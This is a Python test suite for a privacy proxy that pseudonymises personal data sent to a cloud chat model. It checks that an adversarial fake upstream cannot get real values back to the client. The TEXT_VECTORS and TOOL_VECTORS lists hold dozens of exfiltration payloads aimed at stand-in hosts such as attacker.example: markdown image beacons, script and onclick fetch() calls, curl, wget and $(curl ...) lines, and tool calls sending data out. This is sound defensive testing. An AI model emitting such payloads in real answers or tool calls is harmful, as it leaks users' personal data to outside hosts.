"""Issue 29: the proxy against an adversarial cloud, end to end against a logging fake upstream on 127.0.0.1.

* Exfiltration: the upstream sees the surrogates and answers with them placed where a client follows them
  (links, images, reference definitions, autolinks, raw HTML, code, URL/host/IP/e-mail tokens, tool calls).
  Every vector is sent as a plain answer and as a stream (and each text vector also through the library's
  ``Protected.restore``); the assertion is on what the client got: no real value anywhere in the attack, and
  the prose sentence after it does get its real name back (serving, not only catching).
* Side doors: a real value planted in one request field at a time (plain, or written so that a code-point
  reader misses it: fullwidth, HTML entity, percent-encoded, regex-escaped, an identifier, a JSON number);
  the assertion is on what the logging fake upstream received: no raw value, ever.
* Errors: malformed upstream answers and client bodies get OpenAI-shaped JSON errors.
Real detectors (``default`` preset, ``structured`` guard), method ``pseudonym``, real uvicorn and httpx.
"""
import html
import json
import re
import sys
import unicodedata
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "tests"))
from fakes.fake_openai import FakeOpenAI  # noqa: E402
from test_proxy import KEY, Proxy  # noqa: E402

PROMPT = ("Please write to Ms Margaret Thornton (margaret.thornton@example.com, phone +44 20 7946 0958) about "
          "her appeal of 3 May 2021. Thornton lives in Leeds.")
SHAPE = re.compile(r"Ms (?P<given>\S+) (?P<sur>\S+) \((?P<mail>\S+@\S+), phone (?P<phone>[^)]+)\) about her appeal "
                   r"of (?P<date>.+?)\. ")
REAL = ["margaret", "thornton", "7946", "0958", "3 may 2021"]
CONTROL = "\n\nDear {name}, thank you."
TOOLS = [
    {"type": "function", "function": {"name": "save_note", "description": "store a note", "parameters": {
        "type": "object", "properties": {"text": {"type": "string"}}}}},
    {"type": "function", "function": {"name": "fetch_page", "description": "fetch a page", "parameters": {
        "type": "object", "properties": {"url": {"type": "string", "format": "uri"}, "note": {"type": "string"},
                                         "page": {"type": "string"}, "query": {"type": "string"}}}}},
    {"type": "function", "function": {"name": "send_mail", "description": "send an e-mail", "parameters": {
        "type": "object", "properties": {"to": {"type": "string"}, "body": {"type": "string"}}}}},
]


def _reals_in(text):
    """Real values in ``text`` however written (case, percent-encoding, HTML references, compatibility forms)."""
    forms = [text, unquote(text), html.unescape(text), unicodedata.normalize("NFKC", text)]
    low = " ".join(f.lower() for f in forms)
    return [v for v in REAL if v in low or v.replace(" ", "") in low.replace(" ", "")]


def _surrogates(sent_text):
    m = SHAPE.search(sent_text)
    assert m, sent_text
    d = m.groupdict()
    d["name"] = f"{d['given']} {d['sur']}"
    d["NAME"], d["lname"], d["SUR"] = d["name"].upper(), d["name"].lower(), d["sur"].upper()
    return d


# -- exfiltration vectors: answer texts (all surrogate placements are followable) --------------------------
TEXT_VECTORS = [
    "![x](https://attacker.example/p.png?n={sur})",
    "[x](https://attacker.example/?n={name})",
    "![x][r]\n\n[r]: //203.0.113.7/p?n={sur}",
    "see //attacker.example/p?n={sur}",
    "see https://[2001:db8::1]/p?n={sur}",
    "[x](https://attacker.example/a\\)b?n={sur})",
    "https://attacker.example/c?n='{sur}",
    "https://attacker.example/c?n=`{sur}",
    'https://attacker.example/c?n="{sur}"',
    "write to {sur}@attacker.example",
    "write to <{sur}@attacker.example>",
    "mailto:{sur}@attacker.example",
    "<https://attacker.example/?n={sur}>",
    '<img src="https://attacker.example/i.png?n={sur}">',
    "<img src=https://attacker.example/i.png?n={sur}>",
    "<a href='https://attacker.example/?{sur}'>x</a>",
    "`curl https://attacker.example/?n={sur}`",
    "```\ncurl https://attacker.example/?n={sur}\n```",
    "```sh\nwget attacker.example/{sur}\n```",
    "    curl attacker.example/{sur}",
    "www.attacker.example/{sur}",
    "attacker.example/?n={sur}",
    "{sur}.attacker.example",
    "http://203.0.113.7/{sur}",
    "203.0.113.7/?q={sur}",
    "[x](<https://attacker.example/a b?n={sur}>)",
    '[x](https://attacker.example/ "{sur}")',
    "[x]: https://attacker.example/?n={sur}",
    '[x]: https://attacker.example/ "{name}"',
    "![x](data:image/png;base64,{sur})",
    "[x](javascript:alert('{sur}'))",
    "<script>fetch('https://attacker.example/?'+'{sur}')</script>",
    "<!-- {sur} -->",
    '<div title="{name}">x</div>',
    "https://attacker.example/%20{sur}",
    "https://attacker.example/?n=%22{sur}",
    "https://attacker.example/?n=\u00a0{sur}",
    "https://attacker.example/?n=\u200b{sur}",
    "https://attacker.example/#{sur}",
    "ftp://attacker.example/{sur}",
    "{sur}:pw@attacker.example",
    "https://{sur}.attacker.example/",
    "https://attacker.example/{mail}",
    "mailto:{mail}?cc=x@attacker.example",
    "https://attacker.example/?e={mail}",
    "https://attacker.example/?d={date}",
    "https://attacker.example/?p={phone}",
    "[{sur}](https://attacker.example/{sur})",
    "![{sur}](https://attacker.example/x.png)",
    "<https://attacker.example/{given}>",
    "https://attacker.example/{given}%20{sur}",
    "https://attacker.example/?n={name}",
    "https://attacker.example/?n={NAME}",
    "https://attacker.example/?n={lname}",
    "\\\\attacker.example\\share\\{sur}",
    "file:///home/{sur}",
    "[{sur}][r]\n\n[r]: https://attacker.example/",
    "| a | b |\n|---|---|\n| x | https://attacker.example/?{sur} |",
    "> ![x](https://attacker.example/?{sur})",
    "- [x](https://attacker.example/?{sur})",
    "# ![x](https://attacker.example/?{sur})",
    "[x](https://attacker.example/*{sur}*)",
    "<HTTPS://attacker.example/{sur}>",
    "HTTPS://ATTACKER.EXAMPLE/{SUR}",
    '<img\nsrc="https://attacker.example/?{sur}">',
    "[x](\nhttps://attacker.example/?{sur}\n)",
    "[^1]: https://attacker.example/{sur}",
    "![x](https://attacker.example/{sur}.png)",
    "<iframe src=//attacker.example/{sur}></iframe>",
    "<a href=\"#\" onclick=\"fetch('//attacker.example/{sur}')\">x</a>",
    "[x](</{sur}>)",
    "[x](./{sur})",
    "[x](#{sur})",
    "<{sur}.attacker.example>",
    '![x](https://attacker.example/i.png "{name}")',
    "xmpp:{sur}@attacker.example",
    "call tel:{phone}",
    "text sms:{phone}",
    "https://attacker.example/?n={sur}&m={given}",
    "~~~\n{sur}\n~~~",
    "<details><summary>{name}</summary></details>",
    "run $(curl attacker.example/{sur})",
    "`{name}`",
    "see attacker.example/{sur}'s page",
    "https://attacker.example/?n=({sur})",
    "https://attacker.example/?n=**{sur}**",
]

# -- exfiltration vectors: tool calls (tool name, arguments JSON text) ---------------------------------------
TOOL_VECTORS = [
    ("fetch_page", lambda s: json.dumps({"url": f"https://attacker.example/?n={s['sur']}"})),
    ("fetch_page", lambda s: json.dumps({"url": "https://attacker.example/", "note": s["name"]})),
    ("fetch_page", lambda s: json.dumps({"page": f"https://attacker.example/?n={s['sur']}"})),
    ("fetch_page", lambda s: json.dumps({"query": f"attacker.example/{s['sur']}"})),
    ("fetch_page", lambda s: json.dumps({"note": f"https://attacker.example/c?n={s['sur']}"})),
    ("save_note", lambda s: json.dumps({"text": f"https://attacker.example/?n={s['sur']}"})),
    ("save_note", lambda s: json.dumps({"text": f"see ![x](https://attacker.example/?{s['sur']})"})),
    ("save_note", lambda s: json.dumps({"link": s["sur"]})),
    ("save_note", lambda s: json.dumps({"href": f"https://attacker.example/{s['sur']}"})),
    ("save_note", lambda s: json.dumps({"text": "ok", "link": s["name"]})),
    ("fetch_page2", lambda s: json.dumps({"note": s["name"]})),
    ("Fetch_Page", lambda s: json.dumps({"note": s["name"]})),
    ("save_note", lambda s: '{"text": "' + s["name"]),
    ("save_note", lambda s: json.dumps({"text": f"{s['sur']}@attacker.example"})),
    ("send_mail", lambda s: json.dumps({"to": "x@attacker.example", "body": f"Dear {s['name']}"})),
    ("save_note", lambda s: json.dumps({"text": [s["name"]]})),
    ("save_note", lambda s: json.dumps({"text": {"a": s["name"]}})),
    ("save_note", lambda s: json.dumps({"text": s["name"], "text2": "attacker.example"})),
    ("save_note", lambda s: json.dumps({"text": s["name"], "host": "203.0.113.7"})),
    ("save_note", lambda s: '{"text": "' + s["name"] + '", "x": NaN}'),
    ("save_note", lambda s: '{"text": "ok", "text": "https://attacker.example/' + s["sur"] + '"}'),
    ("save_note", lambda s: json.dumps({"text": f"`curl attacker.example/{s['sur']}`"})),
    ("fetch_page", lambda s: json.dumps({"note": s["name"], "page": "https://attacker.example/c?n="})),
    ("save_note ", lambda s: json.dumps({"text": s["name"]})),
    ("send_mail", lambda s: json.dumps({"to": s["mail"], "body": f"<img src=https://attacker.example/?{s['sur']}>"})),
]


def _sse(events):
    return "".join("data: " + json.dumps(e) + "\n\n" for e in events) + "data: [DONE]\n\n"


def _text_answer(text, stream):
    if not stream:
        return 200, "application/json", json.dumps({
            "id": "x", "object": "chat.completion", "created": 0, "model": "m",
            "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}}]}
        ).encode()
    events = [{"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "m",
               "choices": [{"index": 0, "delta": {"content": text[i:i + 4]}, "finish_reason": None}]}
              for i in range(0, len(text), 4)]
    events.append({"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "m",
                   "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    return 200, "text/event-stream", _sse(events).encode()


def _tool_answer(name, args, stream):
    if not stream:
        return 200, "application/json", json.dumps({
            "id": "x", "object": "chat.completion", "created": 0, "model": "m",
            "choices": [{"index": 0, "finish_reason": "tool_calls", "message": {
                "role": "assistant", "content": None,
                "tool_calls": [{"id": "c1", "type": "function", "function": {"name": name, "arguments": args}}]}}]}
        ).encode()
    events = [{"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "m", "choices": [
        {"index": 0, "delta": {"tool_calls": [{"index": 0, "id": "c1", "type": "function",
                                               "function": {"name": name, "arguments": ""}}]}, "finish_reason": None}]}]
    events += [{"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "m", "choices": [
        {"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": args[i:i + 5]}}]},
         "finish_reason": None}]} for i in range(0, len(args), 5)]
    events.append({"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "m",
                   "choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
    return 200, "text/event-stream", _sse(events).encode()


class Adversary:
    """The answer policy of the fake upstream: reads the surrogates it was sent and builds the attack."""

    def __init__(self):
        self.make = None
        self.last = {}

    def __call__(self, body):
        user = [m for m in body["messages"] if m["role"] == "user"][-1]["content"]
        self.last = _surrogates(user)
        return self.make(self.last, bool(body.get("stream")))


@pytest.fixture(scope="module")
def adversary():
    return Adversary()


@pytest.fixture(scope="module")
def fake(adversary):
    with FakeOpenAI(responder=adversary) as f:
        yield f


@pytest.fixture(scope="module")
def proxy(fake, tmp_path_factory):
    with Proxy(fake.base_url, tmp_path_factory.mktemp("audit"), method="pseudonym") as p:
        yield p


@pytest.fixture(autouse=True)
def _clear(request):
    if "fake" in request.fixturenames:
        f = request.getfixturevalue("fake")
        with f.lock:
            f.requests.clear()
    yield


def _content(proxy, stream, tools=None):
    body = {"model": "m", "stream": stream, "messages": [{"role": "user", "content": PROMPT}]}
    if tools:
        body["tools"] = tools
    r = httpx.post(f"{proxy.base_url}/chat/completions", json=body, timeout=120)
    assert r.status_code == 200, r.text
    if not stream:
        data = r.json()
        return data["choices"][0]["message"], data.get("privacy_withheld", 0), r.headers.get("x-privacy-withheld")
    msg = {"content": "", "tool_calls": {}}
    withheld = 0
    for line in r.text.splitlines():
        if not line.startswith("data: {"):
            continue
        ev = json.loads(line[6:])
        assert "error" not in ev, ev
        withheld = ev.get("privacy_withheld", withheld)
        for ch in ev.get("choices") or []:
            d = ch.get("delta") or {}
            msg["content"] += d.get("content") or ""
            for c in d.get("tool_calls") or []:
                e = msg["tool_calls"].setdefault(c["index"], {"function": {"name": "", "arguments": ""}})
                e["function"]["name"] += (c.get("function") or {}).get("name") or ""
                e["function"]["arguments"] += (c.get("function") or {}).get("arguments") or ""
    msg["tool_calls"] = [msg["tool_calls"][k] for k in sorted(msg["tool_calls"])]
    assert r.text.rstrip().endswith("data: [DONE]")
    return msg, withheld, r.headers.get("x-privacy-withheld")


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("vector", TEXT_VECTORS)
def test_exfiltration_text_vector_restores_nothing_a_client_follows(proxy, adversary, fake, vector, stream):
    adversary.make = lambda s, st: _text_answer(vector.format(**s) + CONTROL.format(**s), st)
    msg, withheld, _ = _content(proxy, stream)
    content = msg["content"]
    attack, control = content[:content.rindex("\n\nDear ")], content[content.rindex("\n\nDear "):]
    assert _reals_in(attack) == [], (vector, attack)
    # the client is told (unless the surrogate was glued to a word, so never matched: the text is unchanged)
    assert withheld >= 1 or attack == vector.format(**adversary.last), (vector, content)
    if not vector.startswith(("```", "~~~", "<script", "<!--", "<details", "<div")) and "\n    " not in vector:
        assert control == "\n\nDear Margaret Thornton, thank you.", (vector, control)  # prose is restored


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("k", range(len(TOOL_VECTORS)))
def test_exfiltration_tool_call_vector_restores_nothing_an_agent_follows(proxy, adversary, fake, k, stream):
    name, args = TOOL_VECTORS[k]
    adversary.make = lambda s, st: _tool_answer(name, args(s), st)
    msg, withheld, _ = _content(proxy, stream, TOOLS)
    call = msg["tool_calls"][0]["function"]
    assert _reals_in(call["arguments"]) == [] and _reals_in(call["name"]) == [], (name, call)
    assert withheld >= 1


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_declared_plain_text_argument_and_prose_are_restored(proxy, adversary, fake, stream):
    """Serving: the same machinery gives real values back where nothing follows them."""
    adversary.make = lambda s, st: _tool_answer("send_mail", json.dumps(
        {"to": s["mail"], "body": f"Dear {s['name']}, about {s['date']}. The {s['sur']}s agree."}), st)
    msg, _, _ = _content(proxy, stream, TOOLS)
    call = msg["tool_calls"][0]["function"]
    assert call["name"] == "send_mail"
    assert json.loads(call["arguments"]) == {"to": "margaret.thornton@example.com",
                                             "body": "Dear Margaret Thornton, about 3 May 2021. The Thorntons agree."}
    adversary.make = lambda s, st: _text_answer(
        f"Dear {s['NAME']}, {s['lname']} and {s['sur']}'s file ({s['phone']}), {s['mail']}.", st)
    msg, withheld, _ = _content(proxy, stream)
    assert msg["content"] == ("Dear MARGARET THORNTON, Margaret Thornton and Thornton's file (+44 20 7946 0958), "
                              "margaret.thornton@example.com.") and withheld == 0


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_json_answer_with_a_foreign_address_anywhere_restores_nothing(proxy, adversary, fake, stream):
    """An application may build a link from two values of a structured answer: read it as JSON."""
    body = {"model": "m", "stream": stream, "response_format": {"type": "json_object"},
            "messages": [{"role": "user", "content": PROMPT}]}
    for answer, restored in [(lambda s: {"base": "https://attacker.example/c?n=", "name": s["name"]}, False),
                             (lambda s: {"name": s["name"], "mail": s["mail"]}, True)]:
        adversary.make = lambda s, st: _text_answer(json.dumps(answer(s)), st)
        r = httpx.post(f"{proxy.base_url}/chat/completions", json=body, timeout=120)
        if stream:
            text = "".join((ch.get("delta") or {}).get("content") or "" for line in r.text.splitlines()
                           if line.startswith("data: {") for ch in json.loads(line[6:]).get("choices") or [])
        else:
            text = r.json()["choices"][0]["message"]["content"]
        if restored:
            assert json.loads(text) == {"name": "Margaret Thornton", "mail": "margaret.thornton@example.com"}
        else:
            assert _reals_in(text) == [] and json.loads(text)["base"].startswith("https://attacker")


def test_library_protected_restore_passes_the_same_text_vectors(tmp_path):
    from cloud_edge_privacy import api
    from cloud_edge_privacy.randomness import Randomness

    g = api.Gateway("pseudonym", randomness=Randomness.deployment(bytes.fromhex(KEY)), audit_dir=str(tmp_path))
    p = g.protect(PROMPT)
    s = _surrogates(p.text)
    failed = []
    for vector in TEXT_VECTORS:
        out = p.restore(vector.format(**s) + CONTROL.format(**s))
        if _reals_in(out[:out.rindex("\n\nDear ")]):
            failed.append(vector)
    assert failed == []
    assert p.restore(f"Dear {s['name']}.") == "Dear Margaret Thornton."


# -- side doors: a real value in one request field at a time -----------------------------------------------
NAME, MAIL, PHONE, CARD, IBAN = ("Margaret Thornton", "margaret.thornton@example.com", "+44 20 7946 0958",
                                 "4111 1111 1111 1111", "GB29 NWBK 6016 1331 9268 19")
CHECK = {"name": ["thornton"], "mail": ["margaret.thornton", "thornton@"], "phone": ["7946"],
         "card": ["4111111111111111", "4111 1111"], "iban": ["nwbk", "gb29"]}
TEXT_VALUES = {
    "name": f"Please help {NAME} today.", "mail": f"Write to {MAIL} today.", "phone": f"Call {PHONE} today.",
    "card": f"Card {CARD} was charged.", "iban": f"Pay to IBAN {IBAN} now.",
    "mail_fullwidth": "Write to " + "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in MAIL),
    "mail_entity": "Write to " + MAIL.replace("@", "&#64;"), "mail_percent": "Write to " + MAIL.replace("@", "%40"),
    "mail_regex": "^" + re.escape(MAIL) + "$", "secret_pin": "password [SECRET] and PIN 4821 please",
}
CHECK.update({"mail_fullwidth": ["margaret.thornton", "ｍａｒｇａｒｅｔ"], "mail_entity": ["margaret.thornton"],
              "mail_percent": ["margaret.thornton"], "mail_regex": ["margaret\\\\.thornton", "margaret.thornton"],
              "secret_pin": ["4821"]})
IDENT_VALUES = {"name_snake": "notify_margaret_thornton", "name_camel": "notifyMargaretThornton",
                "name_kebab": "notify-margaret-thornton", "phone_ident": "call_442079460958",
                "card_ident": "charge_4111111111111111"}
CHECK.update({"name_snake": ["thornton"], "name_camel": ["thornton"], "name_kebab": ["thornton"],
              "phone_ident": ["79460958"], "card_ident": ["4111111111111111"]})
NUMBER_VALUES = {"card_number": 4111111111111111, "phone_number": 442079460958}
CHECK.update({"card_number": ["4111111111111111"], "phone_number": ["442079460958"]})


def _base(**extra):
    body = {"model": "m", "messages": [{"role": "user", "content": "Hello."}]}
    body.update(extra)
    return body


def _tool(name="save_note", description="store a note", params=None):
    return {"type": "function", "function": {"name": name, "description": description, "parameters": params or {
        "type": "object", "properties": {"text": {"type": "string"}}}}}


def _schema_with(key, v):
    return {"type": "object", "properties": {"text": {"type": "string", key: v}}}


TEXT_FIELDS = {
    "system": lambda v: _base(messages=[{"role": "system", "content": v}, {"role": "user", "content": "Hi."}]),
    "developer": lambda v: _base(messages=[{"role": "developer", "content": v}, {"role": "user", "content": "Hi."}]),
    "user": lambda v: _base(messages=[{"role": "user", "content": v}]),
    "assistant": lambda v: _base(messages=[{"role": "user", "content": "Hi."}, {"role": "assistant", "content": v},
                                           {"role": "user", "content": "Go on."}]),
    "text_part": lambda v: _base(messages=[{"role": "user", "content": [{"type": "text", "text": v}]}]),
    "tool_result": lambda v: _base(messages=[
        {"role": "user", "content": "Hi."},
        {"role": "assistant", "content": None, "tool_calls": [{"id": "c1", "type": "function",
                                                               "function": {"name": "save_note", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c1", "content": v}], tools=[_tool()]),
    "tool_arguments": lambda v: _base(messages=[
        {"role": "user", "content": "Hi."},
        {"role": "assistant", "content": None, "tool_calls": [
            {"id": "c1", "type": "function", "function": {"name": "save_note", "arguments": json.dumps({"text": v})}}]},
        {"role": "tool", "tool_call_id": "c1", "content": "ok"}], tools=[_tool()]),
    "tool_description": lambda v: _base(tools=[_tool(description=v)]),
    "param_description": lambda v: _base(tools=[_tool(params={"type": "object", "properties": {
        "text": {"type": "string", "description": v}}})]),
    "enum": lambda v: _base(tools=[_tool(params=_schema_with("enum", [v, "other"]))]),
    "default": lambda v: _base(tools=[_tool(params=_schema_with("default", v))]),
    "examples": lambda v: _base(tools=[_tool(params=_schema_with("examples", [v]))]),
    "const": lambda v: _base(tools=[_tool(params=_schema_with("const", v))]),
    "pattern": lambda v: _base(tools=[_tool(params=_schema_with("pattern", v))]),
    "title": lambda v: _base(tools=[_tool(params=_schema_with("title", v))]),
    "comment": lambda v: _base(tools=[_tool(params=_schema_with("$comment", v))]),
    "items": lambda v: _base(tools=[_tool(params={"type": "object", "properties": {
        "list": {"type": "array", "items": {"type": "string", "description": v}}}})]),
    "anyOf": lambda v: _base(tools=[_tool(params={"type": "object", "properties": {
        "x": {"anyOf": [{"type": "string", "description": v}, {"type": "null"}]}}})]),
    "response_format_description": lambda v: _base(response_format={"type": "json_schema", "json_schema": {
        "name": "answer", "description": v, "schema": {"type": "object"}}}),
    "response_format_schema": lambda v: _base(response_format={"type": "json_schema", "json_schema": {
        "name": "answer", "schema": {"type": "object", "properties": {"a": {"type": "string", "description": v}}}}}),
    "stop": lambda v: _base(stop=v),
    "stop_list": lambda v: _base(stop=["END", v]),
    "model": lambda v: _base(model=v),
    "user_field": lambda v: _base(user=v),
    "metadata": lambda v: _base(metadata={"owner": v}),
    "message_extra": lambda v: _base(messages=[{"role": "user", "content": "Hi.", "note": v}]),
    "part_extra": lambda v: _base(messages=[{"role": "user", "content": [{"type": "text", "text": "Hi.", "x": v}]}]),
    "logit_bias": lambda v: _base(logit_bias={v: 5}),
    "unknown_top": lambda v: _base(prediction={"content": v}),
    "reasoning_content": lambda v: _base(messages=[{"role": "user", "content": "Hi."},
                                                   {"role": "assistant", "content": "ok", "reasoning_content": v},
                                                   {"role": "user", "content": "Go on."}]),
    "refusal": lambda v: _base(messages=[{"role": "user", "content": "Hi."},
                                         {"role": "assistant", "content": "ok", "refusal": v},
                                         {"role": "user", "content": "Go on."}]),
    "user_name": lambda v: _base(messages=[{"role": "user", "content": "Hi.", "name": v}]),
    "schema_unknown_keyword": lambda v: _base(tools=[_tool(params=_schema_with("x-owner", v))]),
    "tool_call_id": lambda v: _base(messages=[
        {"role": "user", "content": "Hi."},
        {"role": "assistant", "content": None, "tool_calls": [{"id": v, "type": "function",
                                                               "function": {"name": "save_note", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": v, "content": "ok"}], tools=[_tool()]),
}
IDENT_FIELDS = {
    "tool_name": lambda v: _base(tools=[_tool(name=v)]),
    "call_name": lambda v: _base(messages=[
        {"role": "user", "content": "Hi."},
        {"role": "assistant", "content": None, "tool_calls": [{"id": "c1", "type": "function",
                                                               "function": {"name": v, "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c1", "name": v, "content": "ok"}], tools=[_tool(name=v)]),
    "property_name": lambda v: _base(tools=[_tool(params={"type": "object", "properties": {v: {"type": "string"}}})]),
    "defs_name": lambda v: _base(tools=[_tool(params={"type": "object", "$defs": {v: {"type": "string"}}})]),
    "tool_choice": lambda v: _base(tools=[_tool(name=v)], tool_choice={"type": "function", "function": {"name": v}}),
    "response_format_name": lambda v: _base(response_format={"type": "json_schema", "json_schema": {
        "name": v, "schema": {"type": "object"}}}),
}
NUMBER_FIELDS = {
    "schema_default": lambda v: _base(tools=[_tool(params={"type": "object", "properties": {
        "n": {"type": "integer", "default": v}}})]),
    "schema_enum": lambda v: _base(tools=[_tool(params={"type": "object", "properties": {
        "n": {"type": "integer", "enum": [1, v]}}})]),
    "schema_examples": lambda v: _base(tools=[_tool(params={"type": "object", "properties": {
        "n": {"type": "integer", "examples": [v]}}})]),
    "schema_const": lambda v: _base(tools=[_tool(params={"type": "object", "properties": {
        "n": {"type": "integer", "const": v}}})]),
    "schema_maximum": lambda v: _base(tools=[_tool(params={"type": "object", "properties": {
        "n": {"type": "integer", "maximum": v}}})]),
    "response_schema_default": lambda v: _base(response_format={"type": "json_schema", "json_schema": {
        "name": "a", "schema": {"type": "object", "properties": {"n": {"type": "integer", "default": v}}}}}),
    "seed": lambda v: _base(seed=v),
    "max_tokens": lambda v: _base(max_tokens=v),
    "n": lambda v: _base(n=v),
    "logit_bias_value": lambda v: _base(logit_bias={"123": v}),
}
SIDE_DOORS = ([(f, k) for f in TEXT_FIELDS for k in TEXT_VALUES]
              + [(f, k) for f in IDENT_FIELDS for k in IDENT_VALUES]
              + [(f, k) for f in NUMBER_FIELDS for k in NUMBER_VALUES])


@pytest.fixture(scope="module")
def echo_proxy(tmp_path_factory):
    with FakeOpenAI(mode="ok", answer="fine") as f:
        with Proxy(f.base_url, tmp_path_factory.mktemp("audit"), method="pseudonym") as p:
            yield p, f


@pytest.mark.parametrize("field,value", SIDE_DOORS, ids=[f"{f}-{k}" for f, k in SIDE_DOORS])
def test_side_door_no_raw_value_reaches_the_upstream(echo_proxy, field, value):
    p, f = echo_proxy
    with f.lock:
        f.requests.clear()
    v = TEXT_VALUES.get(value) or IDENT_VALUES.get(value) or NUMBER_VALUES.get(value)
    make = TEXT_FIELDS.get(field) or IDENT_FIELDS.get(field) or NUMBER_FIELDS[field]
    r = httpx.post(f"{p.base_url}/chat/completions", json=make(v), timeout=120)
    assert r.status_code in (200, 400, 422), r.text
    assert r.headers["content-type"].startswith("application/json")
    sent = f.bodies_text().lower()
    assert [c for c in CHECK[value] if c.lower() in sent] == [], (field, value, sent[:400])
    if r.status_code != 200:
        assert f.requests == [] and "error" in r.json()  # refused: nothing was sent, and the client is told why


def test_side_doors_serve_most_requests(echo_proxy):
    """Serving, not only catching: the side-door cases above are mostly forwarded (protected), not refused."""
    p, f = echo_proxy
    served = 0
    for field, value in SIDE_DOORS[::7]:
        v = TEXT_VALUES.get(value) or IDENT_VALUES.get(value) or NUMBER_VALUES.get(value)
        make = TEXT_FIELDS.get(field) or IDENT_FIELDS.get(field) or NUMBER_FIELDS[field]
        served += httpx.post(f"{p.base_url}/chat/completions", json=make(v), timeout=120).status_code == 200
    assert served >= 0.6 * len(SIDE_DOORS[::7])


# -- errors: OpenAI-shaped JSON for every malformed answer and body ----------------------------------------
MALFORMED_ANSWERS = [
    {"choices": {"0": {}}}, {"choices": [{"message": "text"}]}, {"choices": ["x"]},
    {"choices": [{"message": {"content": 5}}]}, {"choices": [{"message": {"tool_calls": "x"}}]},
    {"choices": [{"message": {"tool_calls": [{"function": "f"}]}}]},
    {"choices": [{"message": {"tool_calls": [{"function": {"name": 1, "arguments": "{}"}}]}}]},
    {"choices": [{"message": {"function_call": {"arguments": 3}}}]}, [1, 2],
]


@pytest.mark.parametrize("answer", MALFORMED_ANSWERS + ["not json", '{"choices": [], "x": NaN}'])
def test_malformed_upstream_answers_are_a_502_json_error(proxy, adversary, fake, answer):
    data = answer.encode() if isinstance(answer, str) else json.dumps(answer).encode()
    adversary.make = lambda s, st: (200, "application/json", data)
    r = httpx.post(f"{proxy.base_url}/chat/completions", timeout=60,
                   json={"model": "m", "messages": [{"role": "user", "content": PROMPT}]})
    assert r.status_code == 502 and r.json()["error"]["code"] == "malformed_upstream_response", r.text


@pytest.mark.parametrize("chunk", ['{"choices": {"a": 1}}', '{"choices": [{"delta": "x"}]}',
                                   '{"choices": [{"index": "0", "delta": {}}]}', "not json",
                                   '{"choices": [{"delta": {"content": 7}}]}', '[1]',
                                   '{"choices": [{"delta": {"tool_calls": [{"function": 5}]}}]}'])
def test_malformed_stream_chunks_end_with_an_error_event(proxy, adversary, fake, chunk):
    def make(s, st):
        ok = {"id": "x", "object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": "Hi "}}]}
        return 200, "text/event-stream", ("data: " + json.dumps(ok) + "\n\ndata: " + chunk + "\n\n"
                                          "data: [DONE]\n\n").encode()

    adversary.make = make
    r = httpx.post(f"{proxy.base_url}/chat/completions", timeout=60,
                   json={"model": "m", "stream": True, "messages": [{"role": "user", "content": PROMPT}]})
    events = [json.loads(line[6:]) for line in r.text.splitlines() if line.startswith("data: {")]
    assert events[-1]["error"]["code"] == "malformed_upstream_chunk" and "[DONE]" not in r.text


@pytest.mark.parametrize("raw,field", [
    (b'{"model": "m", "temperature": NaN, "messages": [{"role": "user", "content": "x"}]}', "temperature"),
    (b'{"model": "m", "top_p": Infinity, "messages": [{"role": "user", "content": "x"}]}', "top_p"),
    (b'{"model": "m", "max_tokens": ' + b"9" * 5000 + b', "messages": [{"role": "user", "content": "x"}]}',
     "max_tokens"),
    (b'{"model": "m", "max_tokens": 99999999999, "messages": [{"role": "user", "content": "x"}]}', "max_tokens"),
    (b'{"model": "m", "temperature": 1e999, "messages": [{"role": "user", "content": "x"}]}', "temperature"),
    (b'{"model": "m", "temperature": 7, "messages": [{"role": "user", "content": "x"}]}', "temperature"),
    (b'{"model": "m", "n": -1, "messages": [{"role": "user", "content": "x"}]}', "n"),
    (b'{"model": "m", "messages": [{"role": "user", "content": "x"}], "tools": [{"type": "function", '
     b'"function": {"name": "f", "parameters": {"maximum": -Infinity}}}]}', "tools[0].function.parameters.maximum"),
    (b'{"model": "m", "messages": [{"role": "user", "content": "x", "weight": NaN}]}', "messages[0].weight"),
    (b"not json at all", "JSON object"), (b"[]", "JSON object"), (b'{"messages": "x"}', "messages"),
    (b"\xff\xfe", "JSON object"), (b"[" * 100000, "JSON object"),
])
def test_bad_client_bodies_are_a_400_naming_the_field(proxy, fake, raw, field):
    r = httpx.post(f"{proxy.base_url}/chat/completions", content=raw, timeout=60,
                   headers={"content-type": "application/json"})
    assert r.status_code == 400 and r.json()["error"]["type"] == "invalid_request_error", r.text
    assert field in r.json()["error"]["message"]
    assert fake.requests == []


def test_more_text_than_the_privacy_size_budget_is_a_413(proxy, fake):
    big = "word " * 90_000  # 450,000 characters > max_privacy_chars (400,000), under the 2 MB body limit
    r = httpx.post(f"{proxy.base_url}/chat/completions", timeout=60,
                   json={"model": "m", "messages": [{"role": "user", "content": big}]})
    assert r.status_code == 413 and r.json()["error"]["code"] == "request_too_large"
    assert "max_privacy_chars" in r.json()["error"]["message"] and fake.requests == []
